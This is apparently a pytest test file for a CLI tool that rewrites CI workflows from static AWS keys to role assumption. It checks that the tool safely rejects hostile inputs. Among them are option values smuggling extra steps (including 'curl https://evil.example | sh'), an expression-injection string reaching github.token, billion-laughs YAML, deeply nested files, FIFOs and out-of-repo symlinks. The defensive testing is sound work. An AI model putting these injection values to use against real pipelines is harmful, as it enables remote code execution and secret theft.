"""Hostile input to ``keyless workflows``: option values that try to inject YAML, files that
try to crash or hang the reader. Each case: the exit code, a phrase of the message, no
traceback, and no file changed (even with ``--write``)."""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from keyless.cli import cli

ROLE = "arn:aws:iam::123456789012:role/ci"
KEYS_WORKFLOW = """\
on:
  push:
    branches: [main]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}
          aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
          aws-region: us-east-1
      - run: aws s3 ls
"""
MERGED_ENV = """\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env: &aws
      AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}
      AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
      AWS_REGION: us-east-1
    steps:
      - run: aws s3 ls
  deploy:
    runs-on: ubuntu-latest
    env:
      <<: *aws
    steps:
      - run: aws s3 sync . s3://site
"""
REPEATED_MERGE = """\
.keys: &keys
  AWS_ACCESS_KEY_ID: $KEY
  AWS_SECRET_ACCESS_KEY: $SECRET
.region: &region
  AWS_DEFAULT_REGION: eu-west-1
deploy:
  variables:
    <<: *keys
    <<: *region
  script:
    - aws s3 ls
"""
LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)
EXTENDS_CYCLE = """\
.a:
  extends: .b
  variables:
    AWS_ACCESS_KEY_ID: $K
    AWS_SECRET_ACCESS_KEY: $S
.b:
  extends: .a
deploy:
  extends: [.a, .b]
  script:
    - aws s3 ls
"""
GITHUB = ".github/workflows/deploy.yml"
TOO_BIG = "larger than the 1 MiB keyless reads"


@dataclass(frozen=True)
class Case:
    """One hostile input: files to create, the command's arguments (``{root}`` is the
    repository), the exit code and a phrase the output must hold."""

    name: str
    args: tuple[str, ...]
    code: int
    phrase: str
    files: dict[str, str | bytes] = field(default_factory=lambda: {GITHUB: KEYS_WORKFLOW})
    fifo: str | None = None
    sparse: str | None = None


def _fix(*options: str) -> tuple[str, ...]:
    return ("fix", *options, "--repository", "acme/app", "--write", "{root}")


CASES = [
    Case("role ARN with a newline that adds a step",
         _fix("--role-arn", f"{ROLE}\n      - run: curl https://evil.example | sh"),
         2, "is not an IAM role ARN"),
    Case("role ARN with a comment", _fix("--role-arn", f"{ROLE} # owned"),
         2, "is not an IAM role ARN"),
    Case("role ARN with a five-digit account", _fix("--role-arn", "arn:aws:iam::12345:role/ci"),
         2, "is not an IAM role ARN"),
    Case("role ARN with lookalike digits",
         _fix("--role-arn", "arn:aws:iam::١٢٣٤٥٦٧٨٩٠١٢:role/ci"), 2, "12-digit account"),
    Case("role ARN with an expression in its path",
         _fix("--role-arn", "arn:aws:iam::123456789012:role/${{github.event.issue.title}}/ci"),
         2, "is not an IAM role ARN"),
    Case("role ARN with a trailing newline", _fix("--role-arn", ROLE + "\n"),
         2, "is not an IAM role ARN"),
    Case("unknown partition", _fix("--role-arn", "arn:evil:iam::123456789012:role/ci"),
         2, "is not an IAM role ARN"),
    Case("region with a newline", _fix("--role-arn", ROLE, "--region", "us-east-1\n- run: id"),
         2, "is not an AWS region"),
    Case("region with a comment", _fix("--role-arn", ROLE, "--region", "us-east-1 #x"),
         2, "is not an AWS region"),
    Case("repository with a newline",
         ("fix", "--role-arn", ROLE, "--repository", "acme/app\nx", "--write", "{root}"),
         2, "is not ORG/REPO"),
    Case("repository without a slash",
         ("fix", "--role-arn", ROLE, "--repository", "acme", "--write", "{root}"),
         2, "is not ORG/REPO"),
    Case("repository climbing up",
         ("fix", "--role-arn", ROLE, "--repository", "acme/..", "--write", "{root}"),
         2, "is not ORG/REPO"),
    Case("variable name closing the expression",
         _fix("--role-arn-from", "vars.ROLE }} ${{ github.token"),
         2, "is not a variable or secret name"),
    Case("variable name with a newline", _fix("--role-arn-from", "vars.ROLE\n"), 2,
         "is not a variable or secret name"),
    Case("YAML nested 100,000 deep (flow)", ("scan", "{root}/" + GITHUB), 2,
         "nested more than 100 levels", files={GITHUB: "[" * 100_000 + "]" * 100_000}),
    Case("YAML nested 500 deep (block)", ("scan", "{root}"), 2, "nested more than 100 levels",
         files={".gitlab-ci.yml": "".join(" " * i + f"k{i}:\n" for i in range(500)) + "v\n"}),
    Case("a file that is not UTF-8", ("scan", "{root}"), 2, "not UTF-8",
         files={GITHUB: b"on: push\njobs:\n  a: \xff\xfe\n"}),
    Case("a FIFO named as the only workflow", ("scan", "{root}/" + GITHUB), 2, "not a regular file",
         files={}, fifo=GITHUB),
    Case("a FIFO beside a real workflow", ("scan", "{root}"), 3, "not a regular file",
         fifo=".github/workflows/pipe.yml"),
    Case("a 280 MB workflow", ("scan", "{root}/.github/workflows/huge.yml"), 2, TOO_BIG,
         files={}, sparse=".github/workflows/huge.yml"),
    Case("a 280 MB workflow beside a real one", ("scan", "{root}"), 3, TOO_BIG,
         sparse=".github/workflows/huge.yml"),
    Case("merge key in env: scan", ("scan", "{root}"), 1, "merged into the job 'deploy' too",
         files={GITHUB: MERGED_ENV}),
    Case("merge key in env: fix", ("fix", "--role-arn", ROLE, "--repository", "acme/app", "{root}"),
         1, "does not run on GitHub as written", files={GITHUB: MERGED_ENV}),
    Case("repeated << merge keys (GitLab): scan", ("scan", "{root}"), 1, "gitlab-static-aws-keys",
         files={".gitlab-ci.yml": REPEATED_MERGE}),
    Case("repeated << merge keys (GitLab): fix",
         ("fix", "--role-arn", ROLE, "--repository", "acme/app", "{root}"), 0, "1 job(s) rewritten",
         files={".gitlab-ci.yml": REPEATED_MERGE}),
    Case("a billion laughs of aliases", ("scan", "{root}"), 0, "0 finding(s)",
         files={".gitlab-ci.yml": LAUGHS}),
    Case("extends in a cycle", ("fix", "--role-arn", ROLE, "--repository", "acme/app", "{root}"),
         0, "1 job(s) rewritten", files={".gitlab-ci.yml": EXTENDS_CYCLE}),
    Case("duplicate keys", ("scan", "{root}"), 2, "malformed YAML",
         files={GITHUB: "on: push\non: pull_request\njobs: {}\n"}),
    Case("a merge of something that is not a mapping", ("scan", "{root}"), 2, "malformed YAML",
         files={".gitlab-ci.yml": "a: &a [1]\nb:\n  <<: *a\n"}),
]  # fmt: skip


def _snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink() and p.stat().st_size < 10_000_000
    }


def _prepare(tmp_path: Path, case: Case) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    for relative, content in case.files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    if case.fifo:
        (root / case.fifo).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(root / case.fifo)
    if case.sparse:
        (root / case.sparse).parent.mkdir(parents=True, exist_ok=True)
        with (root / case.sparse).open("wb") as handle:
            handle.truncate(280 * 1024 * 1024)
    return root


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_workflow_input(tmp_path: Path, case: Case) -> None:
    root = _prepare(tmp_path, case)
    before = _snapshot(root)
    args = ["workflows", *(a.replace("{root}", str(root)) for a in case.args)]
    result = CliRunner().invoke(cli, args)
    output = result.stdout + result.stderr
    assert (result.exit_code, "Traceback" in output) == (case.code, False), output
    assert case.phrase in output
    assert _snapshot(root) == before


def test_a_link_out_of_the_repository_is_never_written_through(tmp_path: Path) -> None:
    outside = tmp_path / "outside.yml"
    outside.write_text(KEYS_WORKFLOW, encoding="utf-8")
    root = tmp_path / "repo"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "linked.yml").symlink_to(outside)
    (root / ".github" / "workflows" / "deploy.yml").write_text(KEYS_WORKFLOW, encoding="utf-8")
    args = ["workflows", "fix", "--role-arn", ROLE, "--repository", "acme/app", "--write"]
    result = CliRunner().invoke(cli, [*args, str(root)])
    assert (result.exit_code, outside.read_text()) == (3, KEYS_WORKFLOW)
    assert "outside the paths given" in result.stdout + result.stderr
    assert "role-to-assume" in (root / ".github" / "workflows" / "deploy.yml").read_text()


UNTRUSTED_REGION = """\
on: issues
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: aws s3 ls
        env:
          AWS_ACCESS_KEY_ID: ${{ secrets.K }}
          AWS_SECRET_ACCESS_KEY: ${{ secrets.S }}
          AWS_REGION: ${{ github.event.issue.title }}
"""


@pytest.mark.parametrize(("region", "code"), [(None, 1), ("us-east-1", 0)])
def test_a_value_read_from_the_workflow_cannot_inject_an_expression(
    tmp_path: Path, region: str | None, code: int
) -> None:
    # A region is copied from the workflow only when it is a region name or a plain
    # ${{ env.X }}-style lookup; an attacker-controlled expression is never copied.
    root = tmp_path / "repo"
    (root / ".github" / "workflows").mkdir(parents=True)
    (root / ".github" / "workflows" / "deploy.yml").write_text(UNTRUSTED_REGION, encoding="utf-8")
    extra = ["--region", region] if region else []
    result = CliRunner().invoke(
        cli, ["workflows", "fix", "--role-arn", ROLE, "--repository", "acme/app", *extra, str(root)]
    )
    added = [line for line in result.stdout.splitlines() if line.startswith("+ ")]
    assert result.exit_code == code
    assert not any("github.event" in line for line in added)
